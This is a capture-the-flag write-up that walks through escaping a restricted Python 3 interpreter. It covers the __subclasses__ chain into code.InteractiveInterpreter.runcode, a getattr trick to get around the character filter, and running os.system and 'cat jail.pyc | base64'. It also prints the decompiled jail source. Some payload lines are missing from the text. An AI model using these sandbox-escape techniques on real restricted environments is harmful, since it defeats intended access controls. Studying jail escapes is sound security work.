A guy from FBI found about your Ruby programming activities and has put you inside a python Jail ! Find your way out!
ssh -i -p 2222
To find your keyfile, look into your profile on this website.
Category: pwn


Once we connect through ssh, we see the following:

So it’s a Python jail. We’re told to call exit with the right key, if we pass as an argument something random, we get the following error:

>>> exit('a')
Wrong key

The usual Python functions and classes are banned. No int, ord, str, eval, exec
So is the __import__ class and anything related to direct calls to __builtins__.

There are some banned characters, such as the period (.), the double underscore (__) and the double quotes ("). Besides, each command is limited to 14 characters.

Here we have a GitHub repository with some useful information. Specially, the Python Jails section, which contains some functions that are used in these situations. All of them are banned except for getattr(a, b).


The general procedure to break free consists in the following steps:
-1. Get an instance of a class. Any will do. {} is commonly used, which is an object of the dict class.
-2. Get the reference of that class using the __class__ property.
-3. “Elevate” to the object class using the __base__ property.
-4. Go down to the __subclasses__() method, which returns a list with references to all the standard classes of the language.
-5. Create an instance of a class which has some potential. file is a common one, which lets you, obviously, read any file of the system. However, warning.catch_warnings is also used, which is more interesting: it has a _module property that is a reference to the whole module, so it’s possible to get the reference to __builtins__, import any module, and end the challenge.

However, the procedure above only works on Python 2.7. Thischallenge was made in Python 3, and neither file nor warning.catch_warnings are in the list that __subclasses__() returns.

Skimming through the list, one class catched my eye: code.InteractiveInterpreter (last element, index -1). Trying it on local shows a method named runcode, which behaves exactly like exec.

At this point it’s clear what we want to do:


However, we don’t have either the period, the double underscore, andwe’re limited by 14 chars.

As said in the Analysis section, we have getattr(a, b), where a is an instance, b is a string, the method returns the reference to a.b. With this, we have sorted by now the period issue.

The double underscore isn’t a problem, as, in Python, '_' == '_''_'. And we can manage around the 14 characters limit. It won’t be a problem because a=getattr(c,d) is exactly 14 bytes long.

So, in a nutshell, what we want to try is the following

{}.__class__.__base__.__subclasses__()[-1]().runcode('import os')

I tried it, and worked. It didn’t print out any error, so the import must had executed. Then I tried os, but it failed, because the import of runcode is local. With that in mind, I ran the same code above but changing the last part to:

import os; os.system('ls')

It failed, because of the period following os. The only thing left to do was to get that dot by any means.

One of the classes shown in __subclasses__() was bytes (index 6), so what I ended up doing was, in summary, the following:


Where 46 is the ASCII code for the dot. That way I could append it to the string that I would later pass to runcode.

This is the payload so far:

# 'a': list of references to global classes.



# 'z': string with a dot

# Create an instance of 'code.InteractiveInterpreter'.

# 'i': bash script to run.

# 'j': Python code to evaluate.
j='import os;'# Go!

The result was the following:

Which is quite nice. As it’s a pyc file, I couldn’t just cat it, so I prayed for base64 to be in the system, and ran:

cat jail.pyc | base64

It was installed and the file was printed out. I copied it, decoded it, decompiled it, and the source of the challenge was the following:

"""Unobfuscated source for Hell of a jaill."""
import os, sys, code, signaldef handler(signum, frame):
    """Handling SIGSTOP"""

def user_input(arg):
    """Filter input."""
    s = input('>>> ')
    s = s[:14]
    if '"' in s:
        s = "print('TROLLED !!!!'*1000)"
    s = s.replace('__', '')
    s = s.replace('.', '')
    return s

def exit(arg):"""Must invoke with the right arg in order to get the flag."""
    if arg == os.environ['0f4d0db3668dd58cabb9eb409657eaa8']:
        print('Oh no ! You managed to escape\nValidate with the key')
        return sys.exit(0)
    print('Wrong key')

def sandbox():
    """PyJail sandbox."""
    scope = {'__builtins__': {'exit':exit,  'getattr':getattr,  'print':print}}
    banner = 'Oh my jail ! You need to exit() with the correct key.\nIt mightmake you free (and give you the flag)'
    exit_msg = 'No shell through this...'
    signal.signal(signal.SIGTSTP, handler)
    while True:
            code.interact(banner, user_input, scope, exit_msg)
        exceptSystemExit:


So the flag is in that environment variable called 0f4d0db3668dd58cabb9eb409657eaa8.

I modified my code to print it out, and the flagappeared:

Leave a comment

Youremail address will not be published. Required fields are marked *